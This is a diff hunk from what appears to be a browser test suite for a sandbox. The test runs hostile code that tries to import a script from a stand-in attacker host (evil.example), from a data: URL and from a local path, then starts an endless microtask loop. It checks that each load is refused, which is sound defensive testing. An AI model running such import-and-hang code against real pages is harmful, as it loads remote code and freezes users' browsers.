@@ -214,7 +214,7 @@ test.describe('a program that attacks', () => {
     const asked: string[] = [];
     page.on('request', (request) => asked.push(request.url()));
     await card.run(`function backward() {
-      for (const from of ['https://evil.example/x.js', 'data:text/javascript,export default 1', '/some/base/theme.js'])
+      for (const from of ['https://evil.example/x.js', 'data:text/javascript,export default 1', '/some/base/early.js'])
         import(from).then(() => console.log('reached'), () => console.log('refused'));
       const wait = () => Promise.resolve().then(wait);
       wait();
